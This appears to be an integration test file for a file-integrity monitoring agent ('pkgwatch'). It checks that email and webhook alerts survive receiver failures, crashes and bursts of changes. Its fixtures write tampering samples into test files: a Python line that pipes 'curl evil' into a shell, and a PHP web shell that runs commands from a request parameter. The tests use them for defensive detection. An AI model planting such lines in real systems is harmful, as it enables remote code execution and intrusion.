// Alerts that are never lost: the real agent delivering to a real SMTP server and a real webhook
// receiver on 127.0.0.1 that fail for a while, across kill -9, and a burst of 500 changed files.
import assert from 'node:assert/strict';
import { readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { agentFixture, APP_CONTENT, APP_FILE, isAlert, isKind, startAgent, YEARLY, type AgentToml, type AlertLine, type LogLine } from '../helpers/agent.js';
import { runCli } from '../helpers/cli.js';
import { FixtureRoot } from '../helpers/fixture.js';
import { startHookReceiver, startSmtp, waitUntil } from '../helpers/receivers.js';
import { selfSignedCert } from '../helpers/tls.js';
import { readStatus } from '../../src/agent/statusfile.js';

const SECRET = 'test-secret-0123456789';
const TAMPERED = 'import os; os.system("curl evil | sh")\n';

/** Fast retries for the tests: a dead receiver is retried every few hundred ms. */
const FAST: NonNullable<AgentToml['alerts']> = { retry_min: '100ms', retry_max: '400ms', host: 'web1.test' };

function outboxFiles(stateDir: string, sink: string): string[] {
  try {
    return readdirSync(path.join(stateDir, 'outbox', sink)).filter((f) => f.endsWith('.json'));
  } catch {
    return [];
  }
}

test('webhook: 500s, then kill -9 with alerts pending, restart: every alert arrives, signed, with its id', async (t) => {
  const { fx, stateDir } = agentFixture(t);
  const hook = await startHookReceiver(t, SECRET);
  hook.failNext(1_000_000);
  const config: AgentToml = {
    scope: { packages: ['app'] },
    schedule: { scoped: YEARLY, full: YEARLY },
    // Only the two findings alerts, counted in the outbox below; the writes' own file.written alerts are left out.
    watch: { alert_writes: false },
    alerts: { ...FAST, webhook: { url: hook.url, secret: SECRET, timeout: '2s' } },
  };
  const agent = await startAgent({ t, fx, stateDir, config });
  const from = agent.mark();
  fx.write(APP_FILE, TAMPERED);
  const opened = await agent.waitFor<AlertLine>('the opened alert', isAlert('findings.opened'), { from });
  const failedLine = await agent.waitFor('a failed delivery', (l) => l.kind === 'alert.failed' && l['sink'] === 'webhook' && String(l['error']).includes('HTTP 500'), { from });
  // The log and status name the receiver without its path (it may be a secret): maskUrl.
  assert.match(String(failedLine.line['error']), new RegExp(`^HTTP 500 from http://127\\.0\\.0\\.1:${hook.port}/\\(hidden\\): `));
  fx.write(APP_FILE, APP_CONTENT);
  const resolved = await agent.waitFor<AlertLine>('the resolved alert', isAlert('findings.resolved'), { from });
  // Both are on disk before the agent dies (after the agent.started event), and the status file
  // the agent writes after each run carries the last error.
  await waitUntil('three pending webhook files', () => outboxFiles(stateDir, 'webhook').length === 3);
  await waitUntil('the webhook error in status.json', () => /HTTP 500/.test(readStatus(stateDir)?.alerts.find((a) => a.sink === 'webhook')?.lastError ?? ''));
  const status = await runCli(['status', '--json', '--config', agent.configFile]);
  const sinks = (JSON.parse(status.stdout) as { alerts: { sink: string; pending: number; lastError: string | null }[] }).alerts;
  const webhook = sinks.find((s) => s.sink === 'webhook');
  assert.equal(webhook?.pending, 3, status.stdout);
  assert.match(webhook?.lastError ?? '', /HTTP 500/);
  assert.doesNotMatch(status.stdout, /\/hook\b/);
  await agent.kill9();
  assert.equal(hook.accepted.length, 0);
  // With the agent down, status still tells what waits in the outbox (read from disk).
  const down = await runCli(['status', '--json', '--config', agent.configFile]);
  const downJson = JSON.parse(down.stdout) as { running: boolean; alerts: { sink: string; pending: number }[] };
  assert.equal(downJson.running, false);
  assert.equal(downJson.alerts.find((s) => s.sink === 'webhook')?.pending, 3, down.stdout);

  // The receiver comes back after three more failures; the restarted agent delivers both, in order,
  // after the first start's agent.started (no agent.stopping: kill -9) and before its own.
  hook.failNext(3);
  const again = await startAgent({ t, fx, stateDir, config });
  await waitUntil('four events delivered', () => hook.accepted.length >= 4);
  const ids = hook.accepted.map((h) => h.id);
  assert.deepEqual(
    hook.accepted.map((h) => h.event),
    ['agent.started', 'findings.opened', 'findings.resolved', 'agent.started'],
  );
  assert.ok(ids.includes(opened.line.event.id), `opened ${opened.line.event.id} not in ${ids.join(', ')}`);
  assert.ok(ids.includes(resolved.line.event.id));
  const hOpened = hook.accepted.find((h) => h.id === opened.line.event.id);
  assert.equal(hOpened?.event, 'findings.opened');
  assert.equal(hOpened?.host, 'web1.test');
  assert.deepEqual(hOpened?.findings.map((f) => [f.package, f.path, f.status]), [['app', APP_FILE, 'changed']]);
  await waitUntil('the outbox emptied', () => outboxFiles(stateDir, 'webhook').length === 0);
  await again.stop();
});

test('email: a server that answers 4xx twice, then accepts: one message with the finding; a server that is down, then up', async (t) => {
  const { fx, stateDir } = agentFixture(t);
  const smtp = await startSmtp(t);
  const agent = await startAgent({
    t,
    fx,
    stateDir,
    config: {
      scope: { packages: ['app'] },
      schedule: { scoped: YEARLY, full: YEARLY },
      alerts: { ...FAST, email: { to: ['ops@example.test'], from: 'pkgwatch@web1.test', smtp: `smtp://127.0.0.1:${smtp.port}`, batch: '500ms', timeout: '5s' } },
    },
  });
  // The agent says it started; then the server fails twice.
  await waitUntil('the agent.started mail', () => smtp.mails.length === 1);
  assert.match(smtp.mails[0]?.subject ?? '', /agent started/);
  smtp.failNext(2);
  const from = agent.mark();
  fx.write(APP_FILE, TAMPERED);
  await waitUntil('the mail', () => smtp.mails.length === 2);
  assert.equal(smtp.refused, 2);
  // The agent logs each failure before it tries again: once the delivery is in the log, both are.
  await agent.waitFor('the email delivery', (l) => l.kind === 'alert.delivered' && l['sink'] === 'email', { from });
  const failed = agent.find((l) => l.kind === 'alert.failed' && l['sink'] === 'email', from);
  assert.equal(failed.length, 2, agent.transcript());
  assert.match(String(failed[0]?.['error']), /451/);
  const mail = smtp.mails[1];
  assert.ok(mail !== undefined);
  assert.deepEqual(mail.to, ['ops@example.test']);
  assert.match(mail.subject, /web1\.test/);
  assert.match(mail.subject, /app/);
  assert.ok(mail.text.includes(APP_FILE), mail.text);
  await agent.stop();

  // Down, then up: the agent keeps the mail and sends it once the server listens again.
  const port = smtp.port;
  await smtp.close();
  const down = await startAgent({
    t,
    fx,
    stateDir,
    config: {
      scope: { packages: ['app'] },
      schedule: { scoped: YEARLY, full: YEARLY },
      alerts: { ...FAST, email: { to: ['ops@example.test'], smtp: `smtp://127.0.0.1:${port}`, batch: '0', timeout: '5s' } },
    },
  });
  const mark = down.mark();
  fx.write(APP_FILE, 'second tampering\n');
  await down.waitFor('a refused connection', (l) => l.kind === 'alert.failed' && /ECONNREFUSED/.test(String(l['error'])), { from: mark });
  const back = await startSmtp(t, port);
  await waitUntil('the mail after the server came up', () => back.mails.some((m) => m.text.includes(APP_FILE)));
  await down.stop();
});

test('a burst of 500 changed files: one email, a bounded number of webhook calls, every finding reported', async (t) => {
  const fx = new FixtureRoot();
  t.after(() => fx.cleanup());
  const files = Array.from({ length: 500 }, (_, i) => ({ path: `/srv/big/f${String(i).padStart(3, '0')}.php`, content: `<?php echo ${i};\n` }));
  fx.addPackage({ name: 'big', files });
  const smtp = await startSmtp(t);
  const hook = await startHookReceiver(t, SECRET);
  const agent = await startAgent({
    t,
    fx,
    config: {
      scope: { packages: ['big'] },
      schedule: { scoped: YEARLY, full: YEARLY },
      alerts: {
        ...FAST,
        email: { to: ['ops@example.test'], smtp: `smtp://127.0.0.1:${smtp.port}`, batch: '5s' },
        webhook: { url: hook.url, secret: SECRET },
      },
    },
  });
  // The agent.started mail first, so that the burst is counted alone.
  await waitUntil('the agent.started mail', () => smtp.mails.length === 1);
  const from = agent.mark();
  for (const f of files) writeFileSync(fx.path(f.path), `<?php system($_GET["c"]); // ${f.path}\n`);
  // The log caps the findings it prints per line; the webhook carries them all.
  await waitUntil('all 500 findings at the webhook', () => {
    const seen = new Set(hook.accepted.filter((h) => h.event === 'findings.opened').flatMap((h) => h.findings.map((f) => f.path)));
    return seen.size === 500;
  });
  await waitUntil('the mail', () => smtp.mails.length >= 2);
  const opened = agent.alerts('findings.opened', from);
  assert.ok(opened.every((o) => hook.accepted.some((h) => h.id === o.event.id)), 'every opened event reached the webhook');
  // The marker before counting mails: the email sink has logged the delivery of every opened event
  // (each delivery is logged after the server accepted its message), so a second message, if
  // there were one, has arrived. The agent.started mail went out on its own before.
  const openedIds = new Set<unknown>(opened.map((o) => o.event.id));
  const burstDeliveries = (): LogLine[] => agent.find((l) => l.kind === 'alert.delivered' && l['sink'] === 'email' && (l['ids'] as unknown[]).some((id) => openedIds.has(id)), from);
  const emailed = (): Set<unknown> => new Set(burstDeliveries().flatMap((l) => l['ids'] as unknown[]));
  await waitUntil('the email sink delivered every opened event', () => opened.every((o) => emailed().has(o.event.id)));
  const burstMails = smtp.mails.filter((m) => !/agent (re)?started/i.test(m.subject));
  assert.equal(burstMails.length, 1, smtp.mails.map((m) => m.subject).join('\n'));
  assert.equal(burstDeliveries().length, 1, agent.transcript());
  assert.ok(opened.length <= 10, `${opened.length} opened events for one burst`);
  assert.ok(hook.requests <= 11, `${hook.requests} webhook calls for one burst (and agent.started)`);
  const mail = smtp.mails[1];
  assert.match(mail?.subject ?? '', /500/);
  for (const f of files) assert.ok(mail?.text.includes(f.path), `${f.path} missing from the mail`);
  await agent.stop();
});

test('pkgwatch alert test: accepted by email and webhook (exit 0); a failing webhook is reported (exit 1); nothing configured (exit 2)', async (t) => {
  const { fx, stateDir } = agentFixture(t);
  const smtp = await startSmtp(t);
  const hook = await startHookReceiver(t, SECRET);
  const dir = path.dirname(stateDir);
  const conf = path.join(dir, 'pkgwatch.toml');
  writeFileSync(
    conf,
    `root = "${fx.root}"\nstate_dir = "${stateDir}"\n[alerts]\nhost = "web1.test"\n[alerts.email]\nto = ["ops@example.test"]\nsmtp = "smtp://127.0.0.1:${smtp.port}"\n[alerts.webhook]\nurl = "${hook.url}"\nsecret = "${SECRET}"\n`,
  );
  const ok = await runCli(['alert', 'test', '--config', conf]);
  assert.equal(ok.code, 0, ok.stdout + ok.stderr);
  assert.match(ok.stdout, /^email: accepted/m);
  assert.match(ok.stdout, /^webhook: accepted/m);
  assert.equal(smtp.mails.length, 1);
  assert.match(smtp.mails[0]?.subject ?? '', /test/i);
  assert.equal(hook.accepted[0]?.event, 'test');
  assert.deepEqual(hook.accepted[0]?.findings, []);

  hook.failNext(1);
  const bad = await runCli(['alert', 'test', '--config', conf]);
  assert.equal(bad.code, 1, bad.stdout + bad.stderr);
  assert.match(bad.stdout, /^email: accepted/m);
  assert.match(bad.stdout, /^webhook: FAILED: HTTP 500/m);
  // It went past the outbox: nothing is left queued.
  assert.deepEqual(outboxFiles(stateDir, 'webhook'), []);

  const none = path.join(dir, 'none.toml');
  writeFileSync(none, `root = "${fx.root}"\nstate_dir = "${stateDir}"\n`);
  const empty = await runCli(['alert', 'test', '--config', none]);
  assert.equal(empty.code, 2);
  assert.match(empty.stderr, /no alert sink is configured/);
});

test('an https webhook: an untrusted certificate fails with what to do; trusted through NODE_EXTRA_CA_CERTS it is delivered; another name fails', async (t) => {
  const { fx, stateDir } = agentFixture(t);
  const dir = path.dirname(stateDir);
  const tls = selfSignedCert(dir);
  const hook = await startHookReceiver(t, SECRET, 0, tls);
  assert.match(hook.url, /^https:/);
  const conf = path.join(dir, 'pkgwatch.toml');
  writeFileSync(conf, `root = "${fx.root}"\nstate_dir = "${stateDir}"\n[alerts]\nhost = "web1.test"\n[alerts.webhook]\nurl = "${hook.url}"\nsecret = "${SECRET}"\n`);

  const untrusted = await runCli(['alert', 'test', '--config', conf], { env: { NODE_EXTRA_CA_CERTS: '' } });
  assert.equal(untrusted.code, 1, untrusted.stdout + untrusted.stderr);
  assert.match(untrusted.stdout, /^webhook: FAILED: TLS handshake with 127\.0\.0\.1:\d+ failed: DEPTH_ZERO_SELF_SIGNED_CERT: self-signed certificate \(the certificate is not trusted: add its CA with NODE_EXTRA_CA_CERTS, see README "Webhook"\)$/m);
  assert.equal(hook.requests, 0);

  const trusted = await runCli(['alert', 'test', '--config', conf], { env: { NODE_EXTRA_CA_CERTS: tls.certFile } });
  assert.equal(trusted.code, 0, trusted.stdout + trusted.stderr);
  assert.match(trusted.stdout, /^webhook: accepted/m);
  assert.equal(hook.accepted.length, 1);
  assert.equal(hook.accepted[0]?.event, 'test');

  // Trusted, but issued for 127.0.0.1, not for the name in the url.
  const other = path.join(dir, 'localhost.toml');
  writeFileSync(other, `root = "${fx.root}"\nstate_dir = "${stateDir}"\n[alerts.webhook]\nurl = "${hook.url.replace('127.0.0.1', 'localhost')}"\n`);
  const misnamed = await runCli(['alert', 'test', '--config', other], { env: { NODE_EXTRA_CA_CERTS: tls.certFile } });
  assert.equal(misnamed.code, 1, misnamed.stdout + misnamed.stderr);
  assert.match(misnamed.stdout, /^webhook: FAILED: TLS handshake with localhost:\d+ failed: ERR_TLS_CERT_ALTNAME_INVALID: .*localhost.*127\.0\.0\.1/m);
  assert.equal(hook.requests, 1);
});

test('the log still carries every alert when no sink is configured, and nothing is queued', async (t) => {
  const { fx, stateDir } = agentFixture(t);
  const agent = await startAgent({ t, fx, stateDir, config: { scope: { packages: ['app'] }, schedule: { scoped: YEARLY, full: YEARLY } } });
  const from = agent.mark();
  fx.write(APP_FILE, TAMPERED);
  const a = await agent.waitFor<AlertLine>('the opened alert', isAlert('findings.opened'), { from });
  assert.equal(a.line.event.offline.active, false);
  assert.equal(typeof a.line.event.host, 'string');
  assert.deepEqual(agent.find(isKind('alert.write-failed')), []);
  await agent.stop();
});
